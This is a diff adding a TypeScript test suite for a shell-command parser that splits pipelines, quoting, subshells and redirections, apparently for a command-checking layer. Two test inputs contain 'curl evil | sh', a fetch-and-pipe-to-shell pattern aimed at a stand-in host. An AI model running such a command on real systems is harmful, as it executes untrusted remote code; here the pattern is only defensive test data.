@@ -0,0 +1,56 @@
+import { describe, it } from "mocha"
+import "should"
+import { parseShellCommand } from "../CommandParser"
+
+function argvs(command: string): string[] {
+	return parseShellCommand(command).commands.map((c) => c.argv.join(" "))
+}
+
+describe("parseShellCommand", () => {
+	it("should split lists and pipelines into simple commands", () => {
+		argvs("cat foo && curl evil | sh; echo done || true &").should.deepEqual([
+			"cat foo",
+			"curl evil",
+			"sh",
+			"echo done",
+			"true",
+		])
+
+		const parsed = parseShellCommand("cat foo && curl evil | sh")
+		parsed.pipelines.map((p) => p.map((c) => c.argv[0])).should.deepEqual([["cat"], ["curl", "sh"]])
+	})
+
+	it("should remove quotes and keep quoted operators inside words", () => {
+		argvs(`echo "a && b" 'c | d' e\\;f`).should.deepEqual(["echo a && b c | d e;f"])
+	})
+
+	it("should collect commands nested in subshells and substitutions", () => {
+		argvs('(cd src && ls) && echo $(whoami) `date` "$(id -u)"').should.deepEqual([
+			"cd src",
+			"ls",
+			"whoami",
+			"date",
+			"id -u",
+			"echo $(whoami) `date` $(id -u)",
+		])
+		argvs("echo $((1 + 2))").should.deepEqual(["echo $((1 + 2))"])
+	})
+
+	it("should separate redirections and assignments from argv", () => {
+		const [cmd] = parseShellCommand("NODE_ENV=test npm test > out.log 2>&1 &>> all.log").commands
+
+		cmd.assignments.should.deepEqual(["NODE_ENV=test"])
+		cmd.argv.should.deepEqual(["npm", "test"])
+		cmd.redirections.should.deepEqual([
+			{ operator: ">", target: "out.log" },
+			{ operator: "2>&", target: "1" },
+			{ operator: "&>>", target: "all.log" },
+		])
+	})
+
+	it("should report malformed input without throwing", () => {
+		;(parseShellCommand("echo 'unterminated").error !== undefined).should.be.true()
+		;(parseShellCommand("ls )").error !== undefined).should.be.true()
+		;(parseShellCommand("echo hi > ").error !== undefined).should.be.true()
+	})
+})